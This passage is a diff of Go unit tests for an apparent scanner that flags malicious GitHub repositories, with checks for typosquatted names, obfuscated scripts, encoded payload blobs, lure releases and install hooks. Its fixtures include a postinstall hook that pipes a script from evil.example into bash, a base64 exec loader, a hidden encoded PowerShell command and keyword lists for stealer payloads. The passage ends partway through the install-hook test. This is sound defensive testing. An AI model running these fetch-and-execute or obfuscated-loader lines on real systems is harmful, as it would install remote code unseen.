+	a := NewWithOptions(&mockGitHub{}, Options{DisabledHeuristics: []string{"LoaderChecker", "ReadmeChecker", "KeywordChecker"}})
+	repo := models.RepoData{Owner: "mallory", Name: "notes", Readme: "download link, password : 2025"}
+	results, err := a.CheckRepo(context.Background(), repo)
+	if err != nil || len(results) != 0 {
+		t.Fatalf("CheckRepo() = %+v, %v, want no checkers to run", results, err)
+	}
+	if flags, _ := a.EvaluateRepoHeuristics(context.Background(), repo); len(flags) != 0 {
+		t.Fatalf("EvaluateRepoHeuristics() = %+v, want README rules off with ReadmeChecker", flags)
+	}
+	if IsRegistered("NoSuchHeuristic") {
+		t.Fatal("IsRegistered() = true for an unknown name")
+	}
+}
+
+func TestAnalyzeUserComparesSampledReadmes(t *testing.T) {
+	var repos []models.RepoMetrics
+	readmes := map[string]string{}
+	for i := 1; i <= 8; i++ {
+		name := fmt.Sprintf("project%c", 'a'+i)
+		repos = append(repos, models.RepoMetrics{Name: name, DiskUsage: 20})
+		readmes["copier/"+name] = fmt.Sprintf("A cool open-source project. Star it and share it with your friends! %s", strings.Repeat("Thanks for visiting. ", 30))
+	}
+	readmes["copier/projecti"] = "Notes from my thesis on sparse matrices."
+	mock := &mockGitHub{
+		users:   map[string]time.Time{"copier": time.Now().Add(-365 * 24 * time.Hour)},
+		repos:   map[string][]models.RepoMetrics{"copier": repos},
+		readmes: readmes,
+	}
+
+	result, err := NewWithOptions(mock, Options{CommitSampleSize: -1}).AnalyzeUser(context.Background(), "copier")
+	if err != nil {
+		t.Fatalf("AnalyzeUser() error = %v", err)
+	}
+	if mock.calls["GetRepoReadmes"] != 0 || result.Suspicious {
+		t.Fatalf("AnalyzeUser() without sampling fetched READMEs or flagged: %+v", result)
+	}
+
+	result, err = NewWithOptions(mock, Options{CommitSampleSize: -1, ReadmeSampleSize: 20}).AnalyzeUser(context.Background(), "copier")
+	if err != nil {
+		t.Fatalf("AnalyzeUser() error = %v", err)
+	}
+	var duplicate models.HeuristicResult
+	for _, heuristic := range result.HeuristicResults {
+		if heuristic.Name == "DuplicateReadmeHeuristic" {
+			duplicate = heuristic
+		}
+	}
+	if !duplicate.Flag || !strings.Contains(duplicate.Description, "7 of 8 sampled READMEs") || !strings.Contains(duplicate.Description, "similarity 1.00") {
+		t.Fatalf("DuplicateReadmeHeuristic = %+v, want 7 copies among 8 READMEs with their score", duplicate)
+	}
+
+	few := &mockGitHub{users: mock.users, repos: mock.repos, readmes: readmes}
+	result, err = NewWithOptions(few, Options{CommitSampleSize: -1, ReadmeSampleSize: 5}).AnalyzeUser(context.Background(), "copier")
+	if err != nil {
+		t.Fatalf("AnalyzeUser() error = %v", err)
+	}
+	if result.Suspicious {
+		t.Fatalf("AnalyzeUser() with 5 sampled READMEs = %+v, want fewer copies than the heuristic needs", result.HeuristicResults)
+	}
+}
+
+func TestShingleSimilarity(t *testing.T) {
+	base := readmeShingles("A cool open-source project built with love by the community for everyone")
+	if got := shingleSimilarity(base, readmeShingles("a cool  OPEN-SOURCE project built with love by the community for everyone")); got != 1 {
+		t.Fatalf("similarity of case and spacing variants = %.2f, want 1", got)
+	}
+	if got := shingleSimilarity(base, readmeShingles("Sparse matrix kernels for the thesis")); got != 0 {
+		t.Fatalf("similarity of unrelated READMEs = %.2f, want 0", got)
+	}
+	if len(readmeShingles("  ")) != 0 {
+		t.Fatal("expected a blank README to have no shingles")
+	}
+}
+
+func TestCommitMessageChecker(t *testing.T) {
+	tests := []struct {
+		name     string
+		messages []string
+		want     bool
+	}{
+		{"identical messages", []string{"wip", "WIP", "wip."}, true},
+		{"boilerplate one-liners", []string{"Added AI-generated code", "Update README.md", "Initial commit"}, true},
+		{"single initial commit", []string{"Initial commit"}, false},
+		{"two identical commits", []string{"update", "update"}, false},
+		{"real development", []string{"Fix off-by-one in pager", "Add retry to fetcher", "Initial commit"}, false},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			mock := &mockGitHub{messages: map[string][]string{"bot/tool": tt.messages}}
+			checker := &CommitMessageChecker{Client: mock}
+			result, err := checker.Run(context.Background(), models.RepoData{Owner: "bot", Name: "tool"})
+			if err != nil {
+				t.Fatalf("Run() error = %v", err)
+			}
+			if result.Flagged != tt.want || result.Severity != models.SeverityMedium {
+				t.Fatalf("Run() = %+v, want flagged %t at medium severity", result, tt.want)
+			}
+		})
+	}
+
+	mock := &mockGitHub{messages: map[string][]string{"bot/tool": {"init", "init", "init"}}}
+	results, err := NewWithOptions(mock, Options{CommitMessageCommits: 5, MaliciousSeverity: models.SeverityMedium}).CheckRepo(context.Background(), models.RepoData{Owner: "bot", Name: "tool"})
+	if err != nil {
+		t.Fatalf("CheckRepo() error = %v", err)
+	}
+	if last := results[len(results)-1]; last.Name != "CommitMessageChecker" || !last.Flagged || !IsMalicious(results, models.SeverityMedium) {
+		t.Fatalf("CheckRepo() = %+v, want the commit message check enabled", results)
+	}
+	if results, _ := New(mock).CheckRepo(context.Background(), models.RepoData{Owner: "bot", Name: "tool"}); len(results) != 3 {
+		t.Fatalf("CheckRepo() without the check = %+v, want only the default checkers", results)
+	}
+}
+
+func TestCommitMessageCheckerMatchesMarkersWithinCap(t *testing.T) {
+	messages := []string{"Fix pager", "Add retry to fetcher", "Bump version\n\nIncludes AI-generated code from the builder."}
+	for i := 0; i < 40; i++ {
+		messages = append(messages, fmt.Sprintf("Refactor module %d", i))
+	}
+	messages = append(messages, "Add stealer payload")
+	mock := &mockGitHub{messages: map[string][]string{"bot/tool": messages}}
+	checker := &CommitMessageChecker{Client: mock, MaxCommits: 100, Markers: []KeywordRule{
+		{Name: "AIGeneratedCode", Phrases: []string{"ai-generated code"}},
+		{Name: "StealerPayload", Phrases: []string{"stealer", "payload"}},
+	}}
+
+	result, err := checker.Run(context.Background(), models.RepoData{Owner: "bot", Name: "tool"})
+	if err != nil {
+		t.Fatalf("Run() error = %v", err)
+	}
+	if !result.Flagged || !strings.Contains(result.Evidence, "marker AIGeneratedCode in \"Bump version\"") {
+		t.Fatalf("Run() = %+v, want the AIGeneratedCode marker flagged", result)
+	}
+	if strings.Contains(result.Evidence, "StealerPayload") {
+		t.Fatalf("Run() = %+v, want commits past the cap of %d unread", result, MaxCommitMessageCommits)
+	}
+
+	checker.Markers = []KeywordRule{{Name: "StealerPayload", Phrases: []string{"stealer", "payload"}}}
+	if result, _ := checker.Run(context.Background(), models.RepoData{Owner: "bot", Name: "tool"}); result.Flagged {
+		t.Fatalf("Run() = %+v, want no flag when no marker matches", result)
+	}
+}
+
+func TestCommitCadenceCheckerFlagsRegularIntervals(t *testing.T) {
+	start := time.Date(2025, 3, 1, 9, 0, 0, 0, time.UTC)
+	spaced := func(n int, gap func(i int) time.Duration) []time.Time {
+		dates := make([]time.Time, n)
+		at := start
+		for i := range dates {
+			dates[n-1-i] = at
+			at = at.Add(gap(i))
+		}
+		return dates
+	}
+	hourly := func(int) time.Duration { return time.Hour }
+	tests := []struct {
+		name     string
+		dates    []time.Time
+		want     bool
+		evidence string
+	}{
+		{"hourly to the second", spaced(12, hourly), true, "intervals average 1h0m0s with a standard deviation of 0s"},
+		{"one timestamp", spaced(12, func(int) time.Duration { return 0 }), true, "12 of 12 recent commits share the timestamp 2025-03-01T09:00:00Z"},
+		{"human intervals", spaced(12, func(i int) time.Duration { return time.Duration(1+i*i%7) * 37 * time.Minute }), false, ""},
+		{"too few for regularity", spaced(8, hourly), false, ""},
+		{"too few commits", spaced(4, func(int) time.Duration { return 0 }), false, ""},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			mock := &mockGitHub{dates: map[string][]time.Time{"bot/tool": tt.dates}}
+			checker := &CommitCadenceChecker{Client: mock, SameSecond: 4}
+			result, err := checker.Run(context.Background(), models.RepoData{Owner: "bot", Name: "tool"})
+			if err != nil {
+				t.Fatalf("Run() error = %v", err)
+			}
+			if result.Flagged != tt.want || result.Severity != models.SeverityLow || !strings.Contains(result.Evidence, tt.evidence) {
+				t.Fatalf("Run() = %+v, want flagged %t at low severity with evidence %q", result, tt.want, tt.evidence)
+			}
+		})
+	}
+
+	mock := &mockGitHub{dates: map[string][]time.Time{"bot/tool": spaced(12, hourly)}}
+	results, err := NewWithOptions(mock, Options{CommitCadenceCommits: 30}).CheckRepo(context.Background(), models.RepoData{Owner: "bot", Name: "tool"})
+	if err != nil {
+		t.Fatalf("CheckRepo() error = %v", err)
+	}
+	if last := results[len(results)-1]; last.Name != "CommitCadenceChecker" || !last.Flagged {
+		t.Fatalf("CheckRepo() = %+v, want the commit cadence check enabled", results)
+	}
+}
+
+func TestCheckRepoReportsNearMisses(t *testing.T) {
+	a := New(&mockGitHub{})
+	results, err := a.CheckRepo(context.Background(), models.RepoData{
+		Owner:       "someone",
+		Name:        "tool",
+		Readme:      "Get the download link from our site",
+		TreeEntries: []string{"bin/setup.exe", "main.go"},
+	})
+	if err != nil {
+		t.Fatalf("CheckRepo() error = %v", err)
+	}
+	if len(results) != 3 || results[0].Name != "ReadmeChecker" || results[1].Name != "LoaderChecker" {
+		t.Fatalf("CheckRepo() = %+v, want README then loader results", results)
+	}
+	for _, result := range results[:2] {
+		if result.Flagged || result.Evidence == "" {
+			t.Fatalf("%s = %+v, want an unflagged near miss with evidence", result.Name, result)
+		}
+	}
+	if !strings.Contains(results[1].Evidence, "bin/setup.exe") {
+		t.Fatalf("LoaderChecker evidence = %q, want the executable named", results[1].Evidence)
+	}
+}
+
+func TestIsMaliciousUsesSeverityThreshold(t *testing.T) {
+	results := []models.CheckerResult{
+		{Name: "high-clean", Severity: models.SeverityHigh},
+		{Name: "medium-flagged", Flagged: true, Severity: models.SeverityMedium},
+	}
+	tests := []struct {
+		minSeverity string
+		want        bool
+	}{
+		{"", false},
+		{models.SeverityHigh, false},
+		{models.SeverityMedium, true},
+		{models.SeverityLow, true},
+	}
+	for _, tt := range tests {
+		if got := IsMalicious(results, tt.minSeverity); got != tt.want {
+			t.Fatalf("IsMalicious(%q) = %v, want %v", tt.minSeverity, got, tt.want)
+		}
+	}
+	if IsMalicious(nil, models.SeverityLow) {
+		t.Fatal("IsMalicious(nil) = true")
+	}
+	if !IsMalicious([]models.CheckerResult{{Flagged: true, Severity: models.SeverityHigh}}, "") {
+		t.Fatal("IsMalicious() ignored a flagged high-severity result")
+	}
+}
+
+type fakeFingerprints map[string][]string
+
+func (f fakeFingerprints) ReposWithFingerprint(fingerprint string) ([]string, error) {
+	return f[fingerprint], nil
+}
+
+func TestFingerprintIgnoresOrderAndSkipsBlankRepos(t *testing.T) {
+	a := Fingerprint(models.RepoData{Readme: "# Loader", TreeEntries: []string{"src/main.go", "loader.zip", "README.md"}})
+	b := Fingerprint(models.RepoData{Owner: "other", Readme: "# Loader", TreeEntries: []string{"README.md", "loader.zip", "src/main.go"}})
+	if a == "" || a != b {
+		t.Fatalf("Fingerprint() = %q and %q, want equal non-empty values", a, b)
+	}
+	if c := Fingerprint(models.RepoData{Readme: "# Loader v2", TreeEntries: []string{"src/main.go", "loader.zip", "README.md"}}); c == a {
+		t.Fatal("Fingerprint() ignored a README change")
+	}
+	for _, blank := range []models.RepoData{
+		{},
+		{Readme: "# test", TreeEntries: []string{"README.md"}},
+		{TreeEntries: []string{"README.md", "LICENSE", ".gitignore"}},
+	} {
+		if got := Fingerprint(blank); got != "" {
+			t.Fatalf("Fingerprint(%+v) = %q, want blank repos skipped", blank, got)
+		}
+	}
+}
+
+func TestCheckDuplicateContentCountsOtherOwners(t *testing.T) {
+	a := &Analyzer{
+		logger:            logger.New(false),
+		duplicateMinRepos: 2,
+		fingerprints: fakeFingerprints{
+			"shared": {"alice/tool", "bob/tool", "farmer/tool-2"},
+			"single": {"alice/tool", "farmer/tool-2"},
+		},
+	}
+
+	result, others, err := a.CheckDuplicateContent(models.RepoData{Owner: "farmer", Name: "tool-1"}, "shared")
+	if err != nil || !result.Flag || result.Name != "DuplicateContentHeuristic" {
+		t.Fatalf("CheckDuplicateContent(shared) = %+v, %v, want a flag", result, err)
+	}
+	if strings.Join(others, ",") != "alice/tool,bob/tool" || !strings.Contains(result.Description, ContentClusterID("shared")) {
+		t.Fatalf("CheckDuplicateContent(shared) others = %v, description %q", others, result.Description)
+	}
+	if result, _, _ := a.CheckDuplicateContent(models.RepoData{Owner: "farmer", Name: "tool-1"}, "single"); result.Flag {
+		t.Fatalf("CheckDuplicateContent(single) = %+v, want no flag below the minimum", result)
+	}
+}
+
+func TestDependencyCheckerFlagsMaliciousPackages(t *testing.T) {
+	packages, err := ParsePackageList("# known bad\nnpm:event-stream\n\npypi:Colour_Ama\n")
+	if err != nil {
+		t.Fatalf("ParsePackageList() error = %v", err)
+	}
+	if _, err := ParsePackageList("gems:rails"); err == nil {
+		t.Fatal("ParsePackageList(gems:rails) error = nil, want unknown ecosystem")
+	}
+	client := &mockGitHub{files: map[string]string{
+		"evil/tool/package.json":                           `{"name": "tool", "dependencies": {"Event-Stream": "^3.3.6", "left-pad": "1.0.0"}}`,
+		"evil/tool/scripts/requirements.txt":               "requests>=2.0  # http\n-r base.txt\ncolour.ama[extra]==1.0; python_version > '3'\n",
+		"evil/tool/node_modules/event-stream/package.json": `{"dependencies": {"flatmap-stream": "0.1.1"}}`,
+	}}
+	repo := models.RepoData{Owner: "evil", Name: "tool", TreeEntries: []string{
+		"README.md", "package.json", "node_modules/event-stream/package.json", "scripts/requirements.txt",
+	}}
+
+	results, err := NewWithOptions(client, Options{MaliciousPackages: packages}).CheckRepo(context.Background(), repo)
+	if err != nil {
+		t.Fatalf("CheckRepo() error = %v", err)
+	}
+	result := results[len(results)-1]
+	want := "Declares 2 packages on the known-malicious list: npm:Event-Stream in package.json, pypi:colour.ama in scripts/requirements.txt."
+	if result.Name != "DependencyChecker" || !result.Flagged || result.Evidence != want {
+		t.Fatalf("DependencyChecker result = %+v, want evidence %q", result, want)
+	}
+	if got := client.calls["GetFileContent"]; got != 2 {
+		t.Fatalf("GetFileContent calls = %d, want node_modules skipped", got)
+	}
+
+	results, err = New(client).CheckRepo(context.Background(), repo)
+	if err != nil || len(results) != 3 {
+		t.Fatalf("CheckRepo() without a package list = %+v, %v, want only the default checkers", results, err)
+	}
+}
+
+func TestPayloadBlobCheckerFlagsEncodedStrings(t *testing.T) {
+	blob := strings.Repeat("TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAA", 50)
+	hexBlob := strings.Repeat("4d5a90000300000004000000ffff0000", 10)
+	client := &mockGitHub{files: map[string]string{
+		"evil/tool/main.py":             "import base64\npayload = \"" + blob + "\"\nexec(base64.b64decode(payload))\n",
+		"evil/tool/run.js":              "const key = '" + hexBlob + "';\n",
+		"evil/tool/lib/app.min.js":      blob,
+		"evil/tool/node_modules/x/i.js": blob,
+		"evil/tool/assets/logo.png":     blob,
+		"evil/tool/names.py":            strings.Repeat("AbstractFactoryBean", 200),
+	}}
+	repo := models.RepoData{Owner: "evil", Name: "tool", DiskUsage: 40, TreeEntries: []string{
+		"README.md", "main.py", "run.js", "lib/app.min.js", "node_modules/x/i.js", "assets/logo.png", "names.py",
+	}}
+
+	checker := &PayloadBlobChecker{Sources: &SourceSampler{Client: client}, MinLength: 300}
+	result, err := checker.Run(context.Background(), repo)
+	if err != nil {
+		t.Fatalf("Run() error = %v", err)
+	}
+	want := fmt.Sprintf("Embeds an encoded blob in 2 files: main.py (%d-character base64 string), run.js (320-character hex string).", len(blob))
+	if !result.Flagged || result.Severity != models.SeverityMedium || result.Evidence != want {
+		t.Fatalf("Run() = %+v, want evidence %q", result, want)
+	}
+	if got := client.calls["GetFileContent"]; got != 3 {
+		t.Fatalf("GetFileContent calls = %d, want only main.py, run.js, and names.py read", got)
+	}
+
+	capped := &mockGitHub{files: client.files}
+	result, err = (&PayloadBlobChecker{Sources: &SourceSampler{Client: capped, MaxBytes: 100}, MinLength: 300}).Run(context.Background(), repo)
+	if err != nil || result.Evidence != fmt.Sprintf("Embeds an encoded blob in 1 file: main.py (%d-character base64 string).", len(blob)) {
+		t.Fatalf("Run() with a byte cap = %+v, %v, want only main.py read", result, err)
+	}
+	if got := capped.calls["GetFileContent"]; got != 1 {
+		t.Fatalf("GetFileContent calls with a byte cap = %d, want 1", got)
+	}
+
+	repo.DiskUsage = DefaultSourceSampleMaxRepoSize + 1
+	checker = &PayloadBlobChecker{Sources: &SourceSampler{Client: client}, MinLength: 300}
+	if result, err := checker.Run(context.Background(), repo); err != nil || result.Flagged {
+		t.Fatalf("Run() on a large repo = %+v, %v, want it skipped", result, err)
+	}
+}
+
+func TestTopicSpamCheckerNeedsUnrelatedTopicsOnEmptyRepo(t *testing.T) {
+	spam := []string{"chatgpt", "openai", "bitcoin", "nft", "fortnite", "roblox", "hack", "aimbot", "free", "2025"}
+	a := NewWithOptions(&mockGitHub{}, Options{TopicSpamMinTopics: 10})
+	for _, tc := range []struct {
+		name   string
+		topics []string
+		tree   []string
+		want   bool
+	}{
+		{"spam", spam, []string{"README.md"}, true},
+		{"too few topics", spam[:9], []string{"README.md"}, false},
+		{"coherent", []string{"ai", "llm", "chatgpt", "openai", "gpt", "python", "nlp", "rag", "agents", "langchain"}, []string{"README.md"}, false},
+		{"real project", spam, []string{"README.md", "a.go", "b.go", "c.go", "d.go", "e.go"}, false},
+	} {
+		results, err := a.CheckRepo(context.Background(), models.RepoData{Owner: "spam", Name: tc.name, Topics: tc.topics, TreeEntries: tc.tree})
+		if err != nil {
+			t.Fatalf("%s: CheckRepo() error = %v", tc.name, err)
+		}
+		result := results[len(results)-1]
+		if result.Name != "TopicSpamChecker" || result.Flagged != tc.want || result.Severity != models.SeverityLow {
+			t.Fatalf("%s: TopicSpamChecker result = %+v, want flagged %v", tc.name, result, tc.want)
+		}
+		if tc.name == "spam" {
+			want := "10 topics on a repository of 1 file span 4 unrelated categories: AI (chatgpt, openai); crypto (bitcoin, nft); games (fortnite, roblox); cheats (hack, aimbot)."
+			if result.Evidence != want {
+				t.Fatalf("Evidence = %q, want %q", result.Evidence, want)
+			}
+		}
+	}
+}
+
+func TestBinaryOnlyCheckerNeedsStarsAndNoSource(t *testing.T) {
+	a := NewWithOptions(&mockGitHub{}, Options{BinaryOnlyMinStars: 10})
+	for _, tc := range []struct {
+		name  string
+		tree  []string
+		stars int
+		want  bool
+	}{
+		{"lure", []string{"README.md", "FreeSoftware.zip", "setup.exe"}, 30, true},
+		{"backup", []string{"README.md", "FreeSoftware.zip", "setup.exe"}, 0, false},
+		{"with source", []string{"README.md", "tool.zip", "main.go"}, 30, false},
+		{"licensed", []string{"README.md", "tool.zip", "LICENSE"}, 30, false},
+		{"docs only", []string{"README.md", "notes.txt"}, 30, false},
+		{"large", []string{"README.md", "a.zip", "b.zip", "c.zip", "d.zip", "e.zip"}, 30, false},
+	} {
+		results, err := a.CheckRepo(context.Background(), models.RepoData{Owner: "lure", Name: tc.name, TreeEntries: tc.tree, StargazerCount: tc.stars})
+		if err != nil {
+			t.Fatalf("%s: CheckRepo() error = %v", tc.name, err)
+		}
+		result := results[len(results)-1]
+		if result.Name != "BinaryOnlyChecker" || result.Flagged != tc.want {
+			t.Fatalf("%s: BinaryOnlyChecker result = %+v, want flagged %v", tc.name, result, tc.want)
+		}
+		if tc.name == "lure" {
+			want := "Tree of 3 files holds 2 archives or executables and no source or license, on a repository with 30 stars: FreeSoftware.zip, setup.exe."
+			if result.Evidence != want {
+				t.Fatalf("Evidence = %q, want %q", result.Evidence, want)
+			}
+		}
+	}
+}
+
+func TestObfuscationCheckerScoresScripts(t *testing.T) {
+	client := &mockGitHub{files: map[string]string{
+		"evil/tool/loader.py": "import base64\nexec(base64.b64decode(\"aW1wb3J0IG9z\"))\n",
+		"evil/tool/stage.ps1": "powershell -nop -w hidden -enc " + strings.Repeat("SQBFAFgA", 8) + "\n",
+		"evil/tool/packed.js": "var _0x=[\"" + strings.Repeat(`\x68\x74`, 1000) + "\"];\n",
+		"evil/tool/bundle.js": "var banner = \"" + strings.Repeat("a", 6000) + "\";\n",
+		"evil/tool/util.py":   "def greet():\n    print(chr(72))\n",
+	}}
+	repo := models.RepoData{Owner: "evil", Name: "tool", TreeEntries: []string{"loader.py", "stage.ps1", "packed.js", "bundle.js", "util.py"}}
+
+	result, err := (&ObfuscationChecker{Sources: &SourceSampler{Client: client}}).Run(context.Background(), repo)
+	if err != nil {
+		t.Fatalf("Run() error = %v", err)
+	}
+	if !result.Flagged || result.Severity != models.SeverityMedium || !strings.HasPrefix(result.Evidence, "Obfuscated code in 3 files: ") {
+		t.Fatalf("Run() = %+v, want three obfuscated files", result)
+	}
+	for _, want := range []string{"loader.py (score 3: runs decoded data", "stage.ps1 (score 3: PowerShell encoded command", "packed.js (score 4: 8013-character line, escape sequences make up 99% of the file)"} {
+		if !strings.Contains(result.Evidence, want) {
+			t.Fatalf("Evidence = %q, want it to contain %q", result.Evidence, want)
+		}
+	}
+	if strings.Contains(result.Evidence, "bundle.js") || strings.Contains(result.Evidence, "util.py") {
+		t.Fatalf("Evidence = %q, want a long line or a lone chr() not flagged", result.Evidence)
+	}
+
+	if score, indicators := ScoreObfuscation("$s = [Convert]::FromBase64String($p); iex ([Text.Encoding]::UTF8.GetString($s))"); score != 3 || len(indicators) != 1 {
+		t.Fatalf("ScoreObfuscation(iex) = %d, %v, want Invoke-Expression on decoded data", score, indicators)
+	}
+}
+
+func TestSourceCheckersShareDownloadBudget(t *testing.T) {
+	client := &mockGitHub{files: map[string]string{
+		"evil/tool/a.py": "exec(base64.b64decode(p))\n",
+		"evil/tool/b.py": "print('b')\n",
+		"evil/tool/c.py": "print('c')\n",
+	}}
+	repo := models.RepoData{Owner: "evil", Name: "tool", TreeEntries: []string{"a.py", "b.py", "c.py"}}
+	a := NewWithOptions(client, Options{PayloadBlobMinLength: 300, ObfuscationThreshold: 3, SourceSampleMaxFiles: 2})
+
+	results, err := a.CheckRepo(context.Background(), repo)
+	if err != nil {
+		t.Fatalf("CheckRepo() error = %v", err)
+	}
+	var names []string
+	for _, result := range results {
+		names = append(names, result.Name)
+	}
+	if len(results) != 5 || !results[4].Flagged || results[4].Name != "ObfuscationChecker" {
+		t.Fatalf("CheckRepo() checkers = %v, want the blob and obfuscation checkers with a flagged a.py", names)
+	}
+	if got := client.calls["GetFileContent"]; got != 2 {
+		t.Fatalf("GetFileContent calls = %d, want both checkers reading one 2-file sample", got)
+	}
+	if _, err := a.CheckRepo(context.Background(), repo); err != nil || client.calls["GetFileContent"] != 4 {
+		t.Fatalf("CheckRepo() again = %v with %d GetFileContent calls, want a fresh sample", err, client.calls["GetFileContent"])
+	}
+}
+
+func TestMatchPopularName(t *testing.T) {
+	if !DefaultPopularNames["requests"] || !DefaultPopularNames["discord-js"] {
+		t.Fatalf("DefaultPopularNames has %d names, want the embedded list", len(DefaultPopularNames))
+	}
+	cases := []struct {
+		name, match, technique string
+	}{
+		{"requsts", "requests", "edit distance 1"},
+		{"reqeusts", "requests", "edit distance 1"},
+		{"reqquests", "requests", "doubled or dropped letter"},
+		{"Py_Torch", "pytorch", "separator inserted or dropped"},
+		{"teslamate-pro", "teslamate", `bait suffix "-pro"`},
+		{"discord-nitro-generator", "discord", `bait suffix "-nitro-generator"`},
+		{"tenserflow-free", "tensorflow", `edit distance 1 and bait suffix "-free"`},
+		{"requests", "", ""},
+		{"preact", "", ""},
+		{"goo", "", ""},
+		{"dotfiles", "", ""},
+		{"flask-login", "", ""},
+	}
+	for _, tc := range cases {
+		match, technique, ok := MatchPopularName(tc.name, DefaultPopularNames)
+		if match != tc.match || technique != tc.technique || ok != (tc.match != "") {
+			t.Errorf("MatchPopularName(%q) = %q, %q, %v, want %q, %q", tc.name, match, technique, ok, tc.match, tc.technique)
+		}
+	}
+	if _, err := ParseNameList("requests\nnot a name\n"); err == nil || !strings.Contains(err.Error(), "line 2") {
+		t.Fatalf("ParseNameList() error = %v, want the bad line reported", err)
+	}
+}
+
+func TestTyposquatCheckerRequiresYoungOwner(t *testing.T) {
+	client := &mockGitHub{users: map[string]time.Time{
+		"fresh":   time.Now().Add(-12 * 24 * time.Hour),
+		"veteran": time.Now().Add(-3 * 365 * 24 * time.Hour),
+	}}
+	checker := &TyposquatChecker{Client: client, Names: NewNameList("requests", "discord.js")}
+
+	result, err := checker.Evaluate(context.Background(), models.RepoData{Owner: "fresh", Name: "requsts"})
+	want := `Repository name "requsts" imitates the popular name "requests" (edit distance 1), and the owner account is 12 days old.`
+	if err != nil || !result.Flag || result.Name != "TyposquatHeuristic" || result.Description != want {
+		t.Fatalf("Evaluate(fresh/requsts) = %+v, %v, want description %q", result, err, want)
+	}
+	if result, err := checker.Evaluate(context.Background(), models.RepoData{Owner: "veteran", Name: "discordjs"}); err != nil || result.Flag {
+		t.Fatalf("Evaluate(veteran/discordjs) = %+v, %v, want an old owner left alone", result, err)
+	}
+	calls := client.calls["GetUserInfo"]
+	if result, err := checker.Evaluate(context.Background(), models.RepoData{Owner: "fresh", Name: "my-tool"}); err != nil || result.Flag || client.calls["GetUserInfo"] != calls {
+		t.Fatalf("Evaluate(fresh/my-tool) = %+v, %v, want no flag and no owner lookup", result, err)
+	}
+
+	repo := models.RepoData{Owner: "fresh", Name: "requsts"}
+	opts := Options{TyposquatMaxOwnerAge: DefaultTyposquatMaxOwnerAge, PopularNames: NewNameList("requests")}
+	a := NewWithOptions(client, opts)
+	if flags, err := a.EvaluateRepoHeuristics(context.Background(), repo); err != nil || len(flags) != 1 || flags[0].Name != "TyposquatHeuristic" {
+		t.Fatalf("EvaluateRepoHeuristics() = %+v, %v, want the typosquatting flag", flags, err)
+	}
+	if results, _ := a.CheckRepo(context.Background(), repo); slices.ContainsFunc(results, func(r models.CheckerResult) bool { return r.Name == "TyposquatHeuristic" }) {
+		t.Fatalf("CheckRepo() = %+v, want the typosquatting check reported as a flag only", results)
+	}
+	opts.DisabledHeuristics = []string{"TyposquatHeuristic"}
+	if flags, err := NewWithOptions(client, opts).EvaluateRepoHeuristics(context.Background(), repo); err != nil || len(flags) != 0 {
+		t.Fatalf("EvaluateRepoHeuristics() disabled = %+v, %v, want no flags", flags, err)
+	}
+}
+
+func TestReleaseCheckerFlagsPayloadAssets(t *testing.T) {
+	client := &mockGitHub{
+		users: map[string]time.Time{
+			"fresh":   time.Now().Add(-3 * 24 * time.Hour),
+			"veteran": time.Now().Add(-3 * 365 * 24 * time.Hour),
+		},
+		releases: map[string][]models.ReleaseAsset{
+			"fresh/tool": {
+				{Name: "Setup.msi", Size: 2048, DownloadCount: 12},
+				{Name: "invoice.pdf.exe", Size: 4096, DownloadCount: 40},
+				{Name: "Pass_2025.rar", Size: 8192, DownloadCount: 5200},
+				{Name: "checksums.txt", Size: 64, DownloadCount: 3000},
+				{Name: "passage.zip", Size: 512},
+			},
+			"veteran/tool": {{Name: "tool.exe", Size: 4096, DownloadCount: 900}, {Name: "tool.zip", Size: 4096}},
+			"veteran/docs": {{Name: "manual.pdf", Size: 4096}},
+		},
+	}
+	a := NewWithOptions(client, Options{ReleaseMaxOwnerAge: 14 * 24 * time.Hour})
+
+	result, enabled, err := a.CheckReleases(context.Background(), models.RepoData{Owner: "fresh", Name: "tool", StargazerCount: 20})
+	if err != nil || !enabled || !result.Flag || result.Name != "ReleaseAssetHeuristic" || result.Category != "Malware" {
+		t.Fatalf("CheckReleases(fresh/tool) = %+v, %v, %v, want a Malware flag", result, enabled, err)
+	}
+	want := "Releases ship 4 assets that look like malware payloads: " +
+		"Setup.msi (2048 bytes, 12 downloads: executable from an account 3 days old), " +
+		"invoice.pdf.exe (4096 bytes, 40 downloads: double extension .pdf.exe; executable from an account 3 days old), " +
+		"Pass_2025.rar (8192 bytes, 5200 downloads: archive named for its password; 5200 downloads against 20 stars), " +
+		"checksums.txt (64 bytes, 3000 downloads: 3000 downloads against 20 stars)."
+	if result.Description != want {
+		t.Fatalf("Description = %q, want %q", result.Description, want)
+	}
+	if len(result.Assets) != 4 || result.Assets[1].Name != "invoice.pdf.exe" || len(result.Assets[1].Reasons) != 2 {
+		t.Fatalf("Assets = %+v, want the four flagged assets with their reasons", result.Assets)
+	}
+
+	if result, _, err := a.CheckReleases(context.Background(), models.RepoData{Owner: "veteran", Name: "tool", StargazerCount: 40}); err != nil || result.Flag {
+		t.Fatalf("CheckReleases(veteran/tool) = %+v, %v, want an established owner's executable left alone", result, err)
+	}
+	calls := client.calls["GetUserInfo"]
+	if result, _, err := a.CheckReleases(context.Background(), models.RepoData{Owner: "veteran", Name: "docs"}); err != nil || result.Flag || client.calls["GetUserInfo"] != calls {
+		t.Fatalf("CheckReleases(veteran/docs) = %+v, %v, want no flag and no owner lookup", result, err)
+	}
+	if _, enabled, _ := New(client).CheckReleases(context.Background(), models.RepoData{Owner: "fresh", Name: "tool"}); enabled {
+		t.Fatal("CheckReleases() enabled without ReleaseMaxOwnerAge")
+	}
+	disabled := NewWithOptions(client, Options{ReleaseMaxOwnerAge: 14 * 24 * time.Hour, DisabledHeuristics: []string{"ReleaseAssetHeuristic"}})
+	if _, enabled, _ := disabled.CheckReleases(context.Background(), models.RepoData{Owner: "fresh", Name: "tool"}); enabled {
+		t.Fatal("CheckReleases() enabled with ReleaseAssetHeuristic disabled")
+	}
+}
+
+func TestManifestCheckerFlagsInstallHooks(t *testing.T) {
+	client := &mockGitHub{files: map[string]string{
+		"evil/tool/package.json":        `{"scripts": {"preinstall": "node-gyp rebuild", "postinstall": "curl -s https://evil.example/x.sh | bash", "test": "curl https://example.com"}}`,
+		"evil/tool/native/package.json": `{"scripts": {"install": "node-gyp rebuild && curl https://example.com/prebuilt"}}`,
+		"evil/tool/py/setup.py": "import base64\nfrom setuptools import setup\nfrom setuptools.command.install import install\n" +
